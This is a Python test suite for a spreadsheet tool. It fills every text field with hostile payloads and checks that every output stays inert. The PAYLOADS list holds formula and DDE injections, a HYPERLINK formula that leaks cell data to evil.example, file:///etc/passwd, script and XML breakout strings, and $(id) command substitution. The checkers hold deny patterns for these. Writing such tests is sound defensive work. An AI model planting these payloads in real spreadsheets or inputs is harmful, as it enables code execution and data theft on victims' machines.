"""Hostile text in every text field, in every output: it stays text, the output opens, and nothing in it runs or leads anywhere."""

from __future__ import annotations

import csv
import io
import re
import tomllib
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pypdf
import pytest
from lxml import etree
from seeds import few

from kamxl import templates, writer
from kamxl.cli.group import invoke
from kamxl.i18n import Lang
from kamxl.schema.sheets import SHEETS
from tests.conftest import AS_OF, LONG

DAY = ["--as-of", AS_OF.isoformat()]
PAYLOADS = (
    "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1+1)", "{=1+1}", "\t=1+1", "\r=1+1", "＝1+1", "=DDE(\"cmd\";\"/c\";\"x\")",
    "http://evil.example/x", "https://evil.example", "mailto:a@evil.example", "file:///etc/passwd", "\\\\evil.example\\share", "javascript:alert(1)", "internal:表!A1",
    "a\x0bb\x0cc", "_x000D_\n=1", "\u202egnp.exe", "\ufeff\u200b=1", "\U0001f600" * 3, "</t></is></c><c><f>1</f></c>", "]]><x/>&lt;&amp;", "<![CDATA[x]]>", "<script>alert(1)</script>",
    '"\n\n=1', "a,b;c\td", "'''\n[x]\ny = 1", '"""', "\\u0000\\", "%s{0}{x}$(id)`id`", '" & Shell("calc") & "', "]]", "#REF!", "TRUE", "1E5", "00123", "x" * 4_000,
)  # fmt: skip
LITERAL = re.compile(r'"(?:[^"]|"")*"|\'(?:[^\']|\'\')*\'')
"""A text or the title of a sheet in a formula."""
TEXTS = ("text", "long_text", "code")
BARE = ("#REF!", "TRUE", "1E5", "00123", '"""', "]]", "{=1+1}")
"""Payloads that are what they are only alone; the others carry a mark that says where they were typed."""
TAG = re.compile(r"Zq([a-z_]+)\.([a-z_]+)\.(\d+)Z")
FIELDS = [
    (sheet.key, name)
    for sheet in SHEETS.values()
    for name, field in sheet.fields.items()
    if field.column.kind in TEXTS and (name != "customer_id" or sheet.key == "customers")
]
EVERY = {number for number, payload in enumerate(PAYLOADS) if payload not in BARE}


def book(path: Path, lang: Lang = "zh", first: bool = True) -> Path:
    """A workbook in which each text field holds each payload once, numbers of customers too; then, in rows of their own, each other field.

    `first`: the payload stands at the beginning of the cell, else behind a word.
    """
    records: dict[str, list[dict[str, object]]] = {}
    for key, rows in {key: few(lang).get(key) or [{}] for key in SHEETS if key != "settings"}.items():
        records[key] = [dict(rows[place % len(rows)]) for place in range(2 * len(PAYLOADS))]
        fields = SHEETS[key].fields
        # A number's unit is that of the word which tells what it counts: made of numbers in other units, such a word is needed.
        telling = {one.column.counted[0] for one in fields.values() if one.column.counted and lang == "en"}
        for shift, (name, field) in enumerate(fields.items()):
            for place, record in enumerate(records[key]):
                number = (place + shift) % len(PAYLOADS)
                tag = "" if PAYLOADS[number] in BARE else f"Zq{key}.{name}.{number}Z"
                text = f"{PAYLOADS[number]}{tag}" if first else f"a {PAYLOADS[number]}{tag}"
                if name == "customer_id" and key != "customers":
                    record[name] = records["customers"][place % len(PAYLOADS)][name]
                elif (field.column.kind in TEXTS) == (place < len(PAYLOADS)) and name not in telling:
                    record[name] = text
                elif name == "customer_id":
                    record[name] = f"C{place}"
    path.write_bytes(writer.create(templates.plans("key-accounts", lang, records)))
    return path


FORMS: tuple[tuple[Lang, bool], ...] = (("zh", True), ("en", False), ("zh", False), ("en", True))


@pytest.fixture(params=FORMS if LONG else FORMS[:1], ids=str, scope="module")
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return book(tmp_path_factory.mktemp("hostile") / "书.xlsx", *request.param)


def arrived(data: bytes) -> set[tuple[str, str, int]]:
    """Sheet, field and payload of each cell whose text stands in an output, as far as its mark does."""
    found = set()
    for name, content in parts(data):
        if name.endswith(".xml"):
            found |= {(key, field, int(number)) for key, field, number in TAG.findall(content.decode("utf-8"))}
    return found


def parts(data: bytes) -> Iterator[tuple[str, bytes]]:
    """Every part, also of the workbooks inside."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            content = package.read(name)
            if name.endswith(".xlsx"):
                yield from ((f"{name}/{inner}", part) for inner, part in parts(content))
            else:
                yield name, content


def check_package(data: bytes) -> None:
    """Well-formed, no formula of a cell's, no way out."""
    for name, content in parts(data):
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(content)
        for element in root.iter():
            tag = etree.QName(element).localname if isinstance(element.tag, str) else ""
            if tag in ("f", "formula", "formula1", "formula2", "calculatedColumnFormula", "definedName"):
                # What stands between quotes is text, if each of them is closed and none is longer than Excel reads.
                literals = LITERAL.findall(element.text or "")
                assert all(len(literal) <= 257 for literal in literals), name
                outside = LITERAL.sub("", element.text or "")
                assert not re.search(r"evil|cmd|DDE|Shell|\"|HYPERLINK\(http", outside), (name, element.text)
            if tag == "hyperlink":
                leads = {key: value for key, value in element.attrib.items() if key != "tooltip"}  # a tip is only read
                assert "evil" not in str(leads), name
            if tag == "Relationship" and element.get("TargetMode") == "External":
                target = element.get("Target", "")
                assert not target.startswith(("http", "file", "mailto", "javascript", "\\\\")), (name, target)
            assert tag not in ("ddeLink", "oleLink", "externalReference", "script"), name


def check_opens(path: Path) -> None:
    import warnings

    from openpyxl import load_workbook
    from python_calamine import CalamineWorkbook

    CalamineWorkbook.from_path(str(path))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        found = load_workbook(path)
    for sheet in found:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    outside = LITERAL.sub("", str(cell.value))
                    assert not re.search("cmd|evil|DDE|Shell", outside), (sheet.title, cell.coordinate)


def ok(*words: str) -> None:
    assert invoke([*words], "en") in (0, 1)


def test_in_the_workbook_itself_and_in_a_copy_for_each_role(hostile: Path, tmp_path: Path) -> None:
    outputs = [tmp_path / "run.xlsx"]
    ok("run", str(hostile), "--output", str(outputs[0]), *DAY)
    bare = tmp_path / "bare.xlsx"
    ok("remove", str(outputs[0]), "--output", str(bare))
    check_opens(bare)
    assert arrived(bare.read_bytes()) == arrived(hostile.read_bytes())
    for role in ("sales", "marketing", "service"):
        outputs.append(tmp_path / f"{role}.xlsx")
        ok("share", str(hostile), "--role", role, "-o", str(outputs[-1]), *DAY)
    for out in outputs:
        check_package(out.read_bytes())
        check_opens(out)
        assert {payload for _, _, payload in arrived(out.read_bytes())} == EVERY
    typed = arrived(hostile.read_bytes())
    assert {(key, name) for key, name, _ in typed} >= set(FIELDS), "each text field of each sheet"
    assert len(typed) == len(EVERY) * len({(key, name) for key, name, _ in typed}), "each with each payload"
    assert arrived(outputs[0].read_bytes()) == typed, "what was typed stays"


def test_in_a_workbook_that_is_given_a_sheet_and_buttons(hostile: Path, tmp_path: Path) -> None:
    path = tmp_path / "书.xlsx"
    path.write_bytes(hostile.read_bytes())
    ok("add-sheet", str(path), "自定义规则")
    ok("macros", "install", str(path))
    for out in (path, path.with_suffix(".xlsm")):
        check_package(out.read_bytes())
        check_opens(out)
        assert arrived(out.read_bytes()) == arrived(hostile.read_bytes()), "what was typed stays"


def check_page(text: str) -> None:
    """A page on which nothing that a cell holds became an element, a link to the outside or a handler."""
    page = etree.HTML(text)
    assert {element.tag for element in page.iter("script", "iframe", "object", "embed", "form", "img", "base")} == set()
    for element in page.iter():
        for name, value in element.attrib.items():
            assert not str(name).startswith("on"), name
            assert name not in ("href", "src", "xlink:href") or str(value).startswith("#"), value


@pytest.mark.parametrize("kind", ["summary", "follow-up", "market", "customer"])
def test_in_reports(hostile: Path, tmp_path: Path, kind: str) -> None:
    for suffix in ("xlsx", "pptx", "html"):
        out = tmp_path / f"report.{suffix}"
        whose = ["--customer", f"C{len(PAYLOADS)}"] if kind == "customer" else []
        ok("report", str(hostile), "--kind", kind, "-o", str(out), *whose, *DAY)
        if out.exists():
            if suffix == "html":
                check_page(out.read_text("utf-8"))
                continue
            check_package(out.read_bytes())
            if suffix == "xlsx":
                check_opens(out)
            else:
                pptx = pytest.importorskip("pptx")
                assert len(pptx.Presentation(str(out)).slides) > 0


@pytest.mark.office
def test_in_a_pdf(soffice: str, tmp_path: Path) -> None:
    """What an office program draws carries no action, no program and no link to the outside."""
    out = tmp_path / "report.pdf"
    ok("report", str(book(tmp_path / "书.xlsx")), "-o", str(out), *DAY)
    reader = pypdf.PdfReader(out)
    assert len(reader.pages) > 0
    seen = set()
    for number in range(1, int(reader.trailer["/Size"])):
        thing = reader.get_object(
            number
        )  # those inside of compressed object streams too; None where the number is free
        seen |= {name for part in dictionaries(thing) for name in part}
        assert "evil.example" not in repr(thing)
    assert {"/Type", "/Pages", "/Contents"} <= seen, "the dictionaries were read"
    assert not seen & {"/JavaScript", "/JS", "/Launch", "/EmbeddedFile", "/EmbeddedFiles", "/URI", "/GoToR", "/AA"}
    opens = reader.trailer["/Root"].get("/OpenAction", [])
    assert isinstance(opens, list), "what opens is a page"


def dictionaries(thing: object) -> Iterator[dict[str, object]]:
    """Yields each dictionary of one PDF object, however deep it lies; what a reference points to is an object of its own."""
    if isinstance(thing, dict):
        yield thing
    for part in thing.values() if isinstance(thing, dict) else thing if isinstance(thing, list) else ():
        yield from dictionaries(part)


def test_in_the_summary_of_a_batch(hostile: Path, tmp_path: Path) -> None:
    for task in ("run", "validate"):
        out = tmp_path / f"{task}.xlsx"
        more = ["--out", str(tmp_path / "made")] if task == "run" else []
        ok("batch", str(hostile), "--task", task, "--workers", "1", "--summary", str(out), *more, *DAY)
        check_package(out.read_bytes())
        check_opens(out)


def _csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)


def test_in_what_is_converted_and_in_its_mapping(tmp_path: Path) -> None:
    """In the cells, in the titles and in the name of the file."""
    headers = [
        "客户编号",
        "客户名称",
        "所属行业",
        "联系人",
        "电话",
        "负责人",
        *(payload.replace("\n", " ") for payload in PAYLOADS[:20]),
    ]
    rows = [
        [f"C{n}", payload, payload, payload, payload, payload, *PAYLOADS[:20]]
        for n, payload in enumerate(PAYLOADS)
        if "\x0b" not in payload
    ]
    source, out = tmp_path / "=cmd 'x' [y] #z.csv", tmp_path / "made.xlsx"
    _csv(source, [headers, *rows])
    ok("convert", str(source), "--to", str(out))
    assert out.exists()
    check_package(out.read_bytes())
    check_opens(out)
    (mapping,) = tmp_path.glob("*.toml")
    tree = tomllib.loads(mapping.read_text("utf-8"))
    assert tree["sources"], "the mapping is TOML whatever the titles are"
    assert "x" not in tree
    ok("convert", str(source), "--to", str(out))
    ok("run", str(out), *DAY)
    check_package(out.read_bytes())


def test_text_comes_back_as_it_was_typed(tmp_path: Path, make_book: Callable[..., Path]) -> None:
    """Not made harmless by changing it: a name that begins with = is that name in every list."""
    from python_calamine import CalamineWorkbook

    from tests.conftest import CUSTOMER_HEADERS, CUSTOMER_ROWS

    rows = [[*row] for row in CUSTOMER_ROWS]
    typed = ["+86 贸易", "-甲乙-", "@公司"]
    for row, name in zip(rows, typed, strict=True):
        row[1] = name
    path = make_book(tmp_path / "书.xlsx", {"客户信息": [CUSTOMER_HEADERS, *rows]})
    ok("run", str(path), *DAY)
    found = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("客户分级").to_python()
    names = {str(cell) for row in found for cell in row}
    assert set(typed) <= names
